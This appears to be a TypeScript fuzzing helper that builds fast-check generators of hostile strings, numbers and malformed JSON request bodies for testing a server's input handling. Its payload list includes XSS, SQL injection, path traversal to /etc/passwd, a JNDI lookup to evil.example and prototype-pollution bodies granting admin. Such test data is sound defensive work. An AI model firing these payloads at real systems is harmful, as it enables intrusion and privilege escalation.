import * as fc from "fast-check";

/**
 * Inputs that have broken parsers, databases and user interfaces before: fast-check arbitraries
 * for strings, numbers, JSON values and whole request bodies, shared by the REST and frame fuzzers.
 */

/** Strings worth trying anywhere text is accepted. */
export const NASTY_STRINGS: readonly string[] = [
  "",
  " ",
  "\t\n\r",
  "\u0000",
  "a\u0000b",
  "\u001b[31mred\u001b[0m",
  "\u007f",
  "\u0085",
  "invoice\u202Efdp.exe",
  "\u2066isolated\u2069",
  "\u200f\u200e",
  "\ud800",
  "\udfff",
  "lone \ud83d in the middle",
  "\ude00 backwards \ud83d",
  "\ud83d\ude00",
  "👩‍👩‍👧‍👦",
  "🏳️‍🌈",
  "\ufeff",
  "\u200b",
  "\u2028\u2029",
  "e\u0301\u0301\u0301",
  "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d",
  "\ufdfd",
  "𝕏𝕐ℤ",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "//evil.example/a.png",
  "' OR '1'='1",
  '"; DROP TABLE users; --',
  "%00",
  "%s%s%s%n",
  "../../../etc/passwd",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "null",
  "undefined",
  "NaN",
  "-1",
  "1e309",
  "0x10",
  "c_00000000000000000000",
  "u_00000000000000000000",
];

/** One UTF-16 code unit of any value: lone surrogates included (3% of draws). */
const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((n) => String.fromCharCode(n));

/** A short string of a few kinds, and strings that mix nasty pieces with random code units. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }) },
  { weight: 2, arbitrary: fc.string({ unit: codeUnit, maxLength: 20 }) },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.oneof(fc.constantFrom(...NASTY_STRINGS), fc.string({ maxLength: 5 }), codeUnit), {
        maxLength: 6,
      })
      .map((parts) => parts.join("")),
  },
);

/** Long strings: around the 4000-character body limit, past it, and past the 64 KiB body cap. */
export const hugeString: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom("x", " ", "é", "😀", "\u0000", "\u200b", "<b>"),
    fc.constantFrom(3999, 4000, 4001, 8000, 20_000, 70_000),
  )
  .map(([piece, n]) => piece.repeat(Math.ceil(n / piece.length)).slice(0, n));

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.integer(),
  fc.double(), // JSON.stringify turns NaN and the infinities into null: raw bodies send them as text
  fc.constantFrom(
    -1,
    -0,
    0.5,
    1.5,
    2 ** 31,
    2 ** 53,
    2 ** 53 + 2,
    1e308,
    -1e308,
    Number.MIN_VALUE,
    Number.MAX_SAFE_INTEGER,
  ),
);

export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "type",
    "body",
    "seq",
    "clientId",
    "userId",
    "senderId",
    "sender",
    "admin",
    "isAdmin",
    "constructor",
    "prototype",
    "toString",
    "",
  ),
  fc.string({ maxLength: 12 }),
);

/** Any JSON value, nested a little, built from the hostile leaves. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie("value"), { maxLength: 4 }),
    fc.dictionary(hostileKey, tie("value"), { maxKeys: 4 }),
  ),
})).value;

/** Deeply nested arrays or objects, up to thousands of levels (and within the body cap). */
export const deepJson: fc.Arbitrary<string> = fc
  .tuple(fc.integer({ min: 50, max: 6000 }), fc.boolean())
  .map(([depth, objects]) =>
    objects ? `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}` : `${"[".repeat(depth)}${"]".repeat(depth)}`,
  );

/** JSON-ish text that JSON.stringify cannot produce: non-JSON numbers, duplicates, comments, truncation. */
function rawVariants(valid: Record<string, unknown>, field: string): string[] {
  const json = JSON.stringify(valid);
  const f = JSON.stringify(field);
  const rest = JSON.stringify(Object.fromEntries(Object.entries(valid).filter(([k]) => k !== field))).slice(
    1,
    -1,
  );
  const withRaw = (raw: string) => `{${rest}${rest ? "," : ""}${f}:${raw}}`;
  return [
    withRaw("NaN"),
    withRaw("-NaN"),
    withRaw("Infinity"),
    withRaw("-Infinity"),
    withRaw("1e400"),
    withRaw("-1e400"),
    withRaw("-0"),
    withRaw("0x10"),
    withRaw("01"),
    withRaw("undefined"),
    withRaw("'single'"),
    withRaw('"\\ud800"'),
    withRaw('"\\u0000"'),
    `{${f}:null,${json.slice(1)}`, // duplicate key: the last one wins in JSON.parse
    `${json.slice(0, -1)},${f}:${JSON.stringify(valid[field] ?? null)}}`,
    `{"__proto__":${json}}`,
    `${json.slice(0, -1)},"__proto__":{"admin":true}}`,
    `${json.slice(0, -1)},"constructor":{"prototype":{"admin":true}}}`,
    `${json.slice(0, -1)},}`,
    `/* comment */${json}`,
    `\ufeff${json}`,
    json.slice(0, Math.max(1, Math.floor(json.length / 2))),
    `${json}${json}`,
    `[${json}]`,
    "",
    "null",
    "{}",
    "[]",
    '""',
    "0",
    "true",
  ];
}

/** The exact bytes of a request body (JSON or not), as a hostile client would send them. */
export interface RawBody {
  text: string;
  kind: string;
}

/**
 * Request bodies derived from a valid one: every kind of damage a field, the whole value or the
 * syntax can take. Some of them are still valid (e.g. an emoji body): the caller's oracle decides.
 */
export function hostileBody(
  valid: Record<string, unknown>,
  fields: readonly string[],
): fc.Arbitrary<RawBody> {
  const field = fc.constantFrom(...fields);
  const as =
    (kind: string) =>
    (text: string): RawBody => ({ text, kind });
  return fc.oneof(
    hostileValue.map((v) => JSON.stringify(v)).map(as("whole value")),
    fc
      .tuple(field, hostileValue)
      .map(([k, v]) => JSON.stringify({ ...valid, [k]: v }))
      .map(as("field value")),
    fc
      .tuple(field, hostileString)
      .map(([k, v]) => JSON.stringify({ ...valid, [k]: v }))
      .map(as("field string")),
    fc
      .tuple(field, hugeString)
      .map(([k, v]) => JSON.stringify({ ...valid, [k]: v }))
      .map(as("huge field")),
    fc
      .tuple(field, hostileNumber)
      .map(([k, v]) => JSON.stringify({ ...valid, [k]: v }))
      .map(as("field number")),
    fc
      .tuple(hostileKey, hostileValue)
      .map(([k, v]) => JSON.stringify({ ...valid, [k]: v }))
      .map(as("unknown field")),
    field
      .map((k) => JSON.stringify(Object.fromEntries(Object.entries(valid).filter(([key]) => key !== k))))
      .map(as("missing field")),
    fc
      .tuple(field, fc.nat())
      .map(([k, i]) => {
        const variants = rawVariants(valid, k);
        return variants[i % variants.length] ?? "";
      })
      .map(as("raw syntax")),
    deepJson.map(as("deep nesting")),
    fc
      .tuple(field, deepJson)
      .map(([k, deep]) =>
        JSON.stringify({ ...valid, [k]: 0 }).replace(
          `${JSON.stringify(k)}:0`,
          `${JSON.stringify(k)}:${deep}`,
        ),
      )
      .map(as("deep field")),
    fc.string({ maxLength: 40 }).map(as("random text")),
  );
}

/** The JSON value of a body, or PARSE_ERROR when the server's JSON.parse refuses it. */
export const PARSE_ERROR = Symbol("parse error");
export function parsed(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return PARSE_ERROR;
  }
}

/** Path segments and query values: hostile strings, long ones, and things that look like ids. */
export const hostileParam: fc.Arbitrary<string> = fc.oneof(
  hostileString,
  fc.constantFrom(
    "",
    "..",
    "%2e%2e",
    "%2F",
    "%00",
    "-1",
    "1.5",
    "1e3",
    "9007199254740993",
    "NaN",
    "Infinity",
    " 5",
    "0x10",
    "[]",
    "{}",
  ),
  fc.integer({ min: 300, max: 5000 }).map((n) => "a".repeat(n)),
);
